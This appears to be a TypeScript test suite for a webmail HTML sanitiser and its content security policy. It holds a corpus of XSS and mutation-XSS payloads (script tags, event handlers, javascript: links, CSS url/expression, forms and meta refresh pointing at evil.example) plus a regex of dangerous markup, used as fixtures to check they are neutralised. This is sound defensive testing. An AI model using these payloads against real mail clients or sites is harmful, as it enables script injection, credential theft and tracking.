// Mail bodies that try to run scripts, send forms, load something or cover the page.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { runUnblocking } from '../../test/support/blocked-time.ts'
import { cleanMailBody } from './mail-body.clean.ts'
import { isHtml, linkify } from './mail-body.document.ts'
import { contentSecurityPolicy, renderMailBody } from './mail-body.ts'

const clean = (html: string, remote = false) => cleanMailBody(html, remote).html

/** Everything by which markup runs, sends, loads or leaves its frame. */
const harmful =
  /<\/?(?:script|style|svg|math|iframe|object|embed|form|input|button|select|textarea|link|meta|base|video|audio|source|template|noscript|frame|frameset|applet|xmp|plaintext|title|body|html|head|animate|use|portal|dialog|marquee|isindex|keygen|param|track|picture)\b|<[^>]*\son[a-z]+\s*=|javascript:|vbscript:|data:text|data:image\/svg|url\s*\(|@import|expression\s*\(|position\s*:|z-index|behavior\s*:|-moz-binding|srcset|srcdoc|\bbackground\s*=|formaction|\bid\s*=|\bclass\s*=|\bname\s*=/i

const corpus: Record<string, string> = {
  script: '<p>Text</p><script>alert(1)</script>',
  'script in parts': '<p>Text</p><scr<script>ipt>alert(1)</scr</script>ipt>',
  'script in capitals with a slash': '<p>Text</p><SCRIPT/x src=//evil.example/x.js></SCRIPT>',
  'event handlers': '<p onclick="alert(1)" ONMOUSEOVER=alert(1) on\nload=x>Text</p>',
  'image onerror': '<p>Text<img src=x onerror=alert(1)><img/src/onerror=alert(1)></p>',
  'svg onload': '<p>Text</p><svg/onload=alert(1)><svg><g onload="alert(1)"></g></svg>',
  'svg animate':
    '<p>Text</p><svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'svg use': '<p>Text</p><svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  'mXSS by noscript': '<p>Text</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mXSS by math and style':
    '<p>Text</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mXSS by svg and style': '<p>Text</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mXSS by comment':
    '<p>Text</p><!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->',
  'mXSS by CDATA': '<p>Text</p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'mXSS by form':
    '<p>Text</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mXSS by template':
    '<p>Text</p><template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>',
  'mXSS by textarea': '<p>Text</p><textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  'mXSS by title': '<title><img title="</title><img src=x onerror=alert(1)>"></title><p>Text</p>',
  'mXSS by xmp': '<p>Text</p><xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'mXSS by iframe': '<p>Text</p><iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  'javascript link': '<p>Text <a href="javascript:alert(1)">x</a></p>',
  'javascript link in disguise':
    '<p>Text <a href=" &#1;j&#x0A;av\tascript&colon;alert(1)">x</a><a href="JaVaScRiPt&#58;alert(1)">y</a></p>',
  'vbscript and data links':
    '<p>Text <a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">y</a></p>',
  forms:
    '<p>Text</p><form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
  'frames and objects':
    '<p>Text</p><iframe src="https://evil.example" srcdoc="<script>1</script>"></iframe><object data="x"></object><embed src="x"><applet code=x></applet>',
  'meta refresh and base':
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><p>Text</p>',
  'style sheet':
    '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x)}</style><link rel=stylesheet href=https://evil.example/x.css><p>Text</p>',
  'style url':
    '<p style="background:url(https://evil.example/x)">Text</p><p style="background-image:url(\'//evil.example/x\')">b</p><p style="list-style:url(x)">c</p><p style="background:u\\72l(https://evil.example/x)">d</p><p style="background:image-set(\'https://evil.example/x\' 1x)">e</p>',
  'style expression': '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">Text</p>',
  'style that covers':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Text</div>',
  'style of many kinds': '<p style="color:red;}</style><script>alert(1)</script>">Text</p>',
  'remote images':
    '<p>Text</p><img src="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x"><img src="//evil.example/c.png"><img src="/\\evil.example/d.png"><table background="https://evil.example/e.png"><tr><td background=//evil.example/f.png>x</td></tr></table><input type=image src=https://evil.example/g.png><video poster=https://evil.example/h.png></video><picture><source srcset=https://evil.example/i.png></picture><body background=https://evil.example/j.png>',
  'own addresses':
    '<p>Text <a href="/office/api/session">x</a><a href="../x">y</a><img src="/office/api/x"></p>',
  'image as svg': '<p>Text</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'names that cover': '<p id=office name=body class=x>Text</p><a name=cookie>x</a><form id=test></form>',
  'broken encodings':
    '\uFEFF<p>Text \uFFFD\uFFFE +ADw-script+AD4-alert(1)+ADw-/script+AD4- ¼script¾ %3Cscript%3E &#0;&#xD800;&#x110000; &lt;script&gt;</p>',
  'nothing closed': '<p>Text<b><i><a href="https://x.example"><img src=x onerror=alert(1) "',
  'attributes that break out': `<p title='"><img src=x onerror=alert(1)>' lang="&quot;&gt;&lt;script&gt;">Text</p>`,
  'backticks and slashes':
    '<p>Text</p><img src="`><script>alert(1)</script>"><a/href="https://x.example"/onclick=alert(1)>x</a>',
}

/** The tags of the result alone: texts and the values of titles may say what they like. */
const markup = (html: string) =>
  (html.match(/<[^>]*>/g) ?? []).join('').replace(/ (?:title|alt|lang)="[^"]*"/g, '')

for (const [name, html] of Object.entries(corpus))
  test(`harmless: ${name}`, () => {
    for (const remote of [false, true]) {
      const shown = clean(html, remote)
      const tags = markup(shown)
      assert.doesNotMatch(tags, harmful, shown)
      if (!remote) assert.doesNotMatch(tags, /evil\.example/, shown)
      assert.match(shown, /Text/)
      assert.equal(clean(shown, remote), shown, 'cleaning again changes nothing')
    }
  })

test('harmless HTML is kept', () => {
  const html =
    '<table width="600" bgcolor="#eeeeee" cellpadding="4"><tr><td align="center" style="color:rgb(10, 20, 30);font-family:\'Arial\', sans-serif;padding:4px">Größe <b>fett</b> <font color="red">rot</font></td></tr></table>'
  const shown = clean(html)
  for (const part of [
    'width="600"',
    'bgcolor="#eeeeee"',
    'align="center"',
    'color:rgb(10, 20, 30)',
    'padding:4px',
    'Größe <b>fett</b>',
    '<font color="red">',
  ])
    assert.ok(shown.includes(part), `${part}: ${shown}`)
})

test('links to the web, to mail and to telephones are kept, open a new tab and send no referrer', () => {
  for (const href of ['https://kunde.example/a?b=1&amp;c=2', 'mailto:a@b.example', 'tel:+49301234'])
    assert.equal(
      clean(`<a href="${href}" onclick="x()">y</a>`),
      `<a href="${href}" target="_blank" rel="noopener noreferrer">y</a>`,
    )
})

test('embedded images are shown; images of other hosts are counted, and loaded only on request', () => {
  const own = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Logo" />'
  assert.equal(clean(own), own)
  const html = `${own}<img src="https://a.example/x.png" alt="X"><img src="//b.example/y.png"><img src="cid:teil1" alt="Z">`
  const blocked = cleanMailBody(html, false)
  assert.equal(blocked.remoteImageCount, 2)
  assert.equal(blocked.html, `${own}<img alt="X" /><img /><img alt="Z" />`)
  const shown = cleanMailBody(html, true)
  assert.equal(shown.remoteImageCount, 2)
  assert.ok(shown.html.includes('<img src="https://a.example/x.png" referrerpolicy="no-referrer" alt="X" />'))
  assert.ok(shown.html.includes('src="https://b.example/y.png"'))
})

test('the policy allows no scripts, and images of other hosts only on request', () => {
  assert.match(
    contentSecurityPolicy(false),
    /default-src 'none'.*img-src data:;.*frame-ancestors 'self'; sandbox (?!.*allow-scripts)/,
  )
  assert.match(contentSecurityPolicy(true), /img-src data: https: http:;/)
  for (const remote of [true, false])
    assert.doesNotMatch(
      contentSecurityPolicy(remote),
      /script-src|allow-scripts|allow-forms|allow-top|connect-src|frame-src/,
    )
})

test('HTML is recognised; plain text can have an address in angle brackets', () => {
  for (const html of ['<p>x</p>', 'Hallo<br>du', '<IMG/src=x>', '<!DOCTYPE html><html>', '<svg/onload=x>'])
    assert.equal(isHtml({ body: html, format: '' }), true, html)
  for (const text of [
    'Hallo',
    'a < b > c',
    'Anna <a@b.example> schrieb',
    '<https://x.example>',
    'x <p y',
    '',
  ])
    assert.equal(isHtml({ body: text, format: '' }), false, text)
  assert.equal(isHtml({ body: '<p>x</p>', format: 'text' }), false)
  assert.equal(isHtml({ body: 'a &lt; b', format: 'html' }), true)
})

test('plain text is shown unchanged, with its addresses as links', () => {
  assert.equal(
    linkify('Siehe https://x.example/a?b=1&c="2". Mail: (anna.b+c@firma.example), <b>'),
    'Siehe <a href="https://x.example/a?b=1&amp;c=" target="_blank" rel="noopener noreferrer">https://x.example/a?b=1&amp;c=</a>&quot;2&quot;. ' +
      'Mail: (<a href="mailto:anna.b+c@firma.example" target="_blank" rel="noopener noreferrer">anna.b+c@firma.example</a>), &lt;b&gt;',
  )
  assert.doesNotMatch(linkify('javascript:alert(1) data:text/html,x'), /<a/)
})

const timed = (body: string) =>
  runUnblocking(200, () =>
    renderMailBody({ subject: '', body, format: '' }, { showRemoteImages: false, isDark: false }),
  )
const mebibytes = 10 * 1024 * 1024
const filled = (part: string) => part.repeat(Math.floor(mebibytes / part.length))

for (const [name, body] of Object.entries({
  'a long newsletter': filled(
    '<table><tr><td style="color:#111;padding:2px">Zeile <a href="https://x.example">x</a></td></tr></table>\n',
  ),
  'tags that are never closed': filled('<div><b><i>'),
  'ends of tags that were never opened': `${'<b>'.repeat(mebibytes / 8)}${'</i>'.repeat(mebibytes / 8)}`,
  'brackets alone': `<p>${filled('<')}`,
  'attributes without end': `<p ${filled('a="b" ')}`,
  'styles without end': `<p style="${filled('color:red;')}">x</p>`,
  'one long image': `<p>x</p><img src="data:image/png;base64,${filled('A')}">`,
}))
  test(`10 MiB are rendered in bounded time without blocking other requests: ${name}`, async () => {
    const { result: html, tookMs } = await timed(body)
    assert.ok(tookMs < 60_000, `took ${tookMs} ms`)
    assert.doesNotMatch(markup(html.slice(html.indexOf('<body>') + 6, 200_000)), /script|on[a-z]+=/)
  })

for (const [name, body] of Object.entries({
  'plain text': filled('a'),
  'beginnings of addresses': filled('a.b@'),
  'beginnings of links': filled('https://'),
  addresses: filled('a@b.de '),
  'links of HTML': filled('<a href=https://x>z</a>'),
}))
  test(`10 MiB of text are shown in bounded time and size, without blocking other requests: ${name}`, async () => {
    const { result: html, tookMs } = await timed(body)
    assert.ok(tookMs < 60_000, `took ${tookMs} ms`)
    assert.ok(html.length < 25_000_000, `${html.length} characters`)
  })

test('of a long text the beginning is shown', async () => {
  const { result: html } = await timed(`Anfang ${filled('a ')} Ende`)
  assert.match(html, /data-shortened="1"/)
  assert.match(html, /Anfang/)
  assert.doesNotMatch(html, /Ende/)
  assert.doesNotMatch((await timed(`Anfang ${'a '.repeat(50_000)} Ende`)).result, /data-shortened/)
})
